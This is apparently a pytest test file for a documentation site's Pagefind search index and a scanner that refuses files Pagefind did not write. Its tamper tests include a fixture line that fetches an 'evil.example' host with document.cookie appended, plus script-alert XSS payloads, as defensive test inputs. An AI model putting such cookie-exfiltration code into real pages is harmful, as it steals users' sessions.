"""engine/search_index.py and the scan's rules for its output: Pagefind's files are trusted
narrowly (code by the pinned version's bytes, index data by its signature), nothing else in pagefind/."""

from __future__ import annotations

import gzip
import re
import shutil
from importlib.metadata import version
from pathlib import Path

import pytest

from accessgap.engine import scan, search_index

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture(scope="module")
def indexed(tmp_path_factory):
    """A two-page site indexed by the real Pagefind binary, as the build runs it."""
    site = tmp_path_factory.mktemp("site")
    for rel, title, lab in (("a/index.html", "Zebra weights withheld", "Lab One"), ("b/index.html", "Other page", "Lab Two")):
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_text(
            f'<!doctype html><html lang="en"><head><title>{title}</title></head><body><nav>menu words</nav>'
            f'<article class="md-content__inner md-typeset"><h1>{title}</h1><p>Body text about {title}.</p>'
            f'<div hidden data-pagefind-ignore><span data-pagefind-filter="lab">{lab}</span></div></article></body></html>',
            encoding="utf-8")
    assert search_index.index(site, ROOT) == []
    return site


def test_the_pin_is_one_version_everywhere():
    pin = re.search(r'"pagefind-bin==([^"]+)"', (ROOT / "pyproject.toml").read_text(encoding="utf-8")).group(1)
    assert pin == search_index.VERSION == scan.POLICY["pagefind"]["version"] == version("pagefind-bin")


def test_an_indexed_site_passes_the_scan_and_keeps_only_what_the_search_uses(indexed):
    files = {p.relative_to(indexed).as_posix() for p in (indexed / "pagefind").rglob("*") if p.is_file()}
    assert {"pagefind/pagefind.js", "pagefind/pagefind-entry.json"} <= files
    assert any(f.startswith("pagefind/fragment/") for f in files) and any(f.startswith("pagefind/filter/") for f in files)
    assert not any("-ui." in f or "highlight" in f for f in files)  # Pagefind's own UIs are not published
    assert scan.scan_site(indexed, workers=1) == []


@pytest.mark.parametrize("change, problem", [
    (lambda s: (s / "pagefind/pagefind.js").write_text("fetch('https://evil.example/'+document.cookie)"), "byte-identical"),
    (lambda s: (s / "pagefind/extra.js").write_text("alert(1)"), "not a file Pagefind writes"),
    (lambda s: (s / "pagefind/page.html").write_text("<script>alert(1)</script>"), "not a file Pagefind writes"),
    (lambda s: next((s / "pagefind/fragment").iterdir()).write_bytes(gzip.compress(b"<script>alert(1)</script>")), "no Pagefind signature"),
    (lambda s: next((s / "pagefind/fragment").iterdir()).write_bytes(b"pagefind_dcd plain"), "not gzip"),
    (lambda s: shutil.copy(next((s / "pagefind/fragment").iterdir()), s / "pagefind/index/x.pf_fragment"), "not a file Pagefind writes"),
    (lambda s: (s / "pagefind/pagefind-entry.json").write_text("{nope"), "not valid JSON"),
    (lambda s: shutil.copy(s / "pagefind/pagefind.js", s / "a/pagefind.js"), "not byte-identical to Material's or our"),
])
def test_anything_pagefind_did_not_write_is_refused(indexed, tmp_path, change, problem):
    site = tmp_path / "site"
    shutil.copytree(indexed, site)
    change(site)
    found = scan.scan_site(site, workers=1)
    assert found and all(problem in line for line in found), found


def test_B005_a_missing_binary_is_a_located_error(tmp_path, monkeypatch):
    monkeypatch.setattr(search_index, "executable", lambda: None)
    (found,) = search_index.index(tmp_path, ROOT)
    line = next(n for n, text in enumerate((ROOT / "pyproject.toml").read_text().splitlines(), 1) if "pagefind-bin" in text)
    assert (found.path, found.line, found.code) == ("pyproject.toml", line, "B005")
    assert "make install" in found.hint


def test_B005_a_failing_pagefind_is_a_located_error(tmp_path, monkeypatch):
    fake = tmp_path / "pagefind"
    fake.write_text("#!/bin/sh\necho 'Error: the site folder is unreadable' >&2\nexit 3\n")
    fake.chmod(0o755)
    monkeypatch.setattr(search_index, "executable", lambda: fake)
    (found,) = search_index.index(tmp_path / "site", ROOT)
    assert found.code == "B005" and "exit 3" in found.message and "unreadable" in found.message


@pytest.mark.parametrize("edit", [lambda cfg: cfg.update(plugins=["search"]), lambda cfg: cfg.pop("plugins")],
                         ids=["material-search", "no-plugins-key"])
def test_materials_search_plugin_is_not_reviewed_any_more(tmp_path, edit):
    import yaml

    from accessgap.engine import config

    cfg = yaml.safe_load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"))
    assert config.problems(ROOT) == []
    edit(cfg)
    (tmp_path / "mkdocs.yml").write_text(yaml.safe_dump(cfg, sort_keys=False), encoding="utf-8")
    found = config.problems(tmp_path)
    assert [f.code for f in found] == ["B002"] and found[0].line > 0 and "search" in found[0].message + found[0].hint


def test_charts_are_not_indexed_and_the_text_around_them_is(tmp_path):
    # A chart's marks name entries, which are indexed on their own pages: on a list page they only
    # grew the index (at 10,000 entries they made two pages of 37,000 and 47,000 words).
    site = tmp_path / "site"
    (site / "g").mkdir(parents=True)
    (site / "g/index.html").write_text(
        '<!doctype html><html lang="en"><head><title>Gap</title></head><body>'
        '<article class="md-content__inner md-typeset"><h1>Gap type</h1><p>Numbat prose.</p>'
        '<figure class="mag-chart mag-lchart"><a href="../e/">Quokka entry</a></figure>'
        '<figure class="mag-hchart"><ol><li>Wombat bar</li></ol></figure></article></body></html>', encoding="utf-8")
    assert search_index.index(site, ROOT) == []
    text = " ".join(gzip.decompress(p.read_bytes()).decode("utf-8", "replace")
                    for p in (site / "pagefind" / "fragment").iterdir())
    assert "Numbat" in text and "Quokka" not in text and "Wombat" not in text
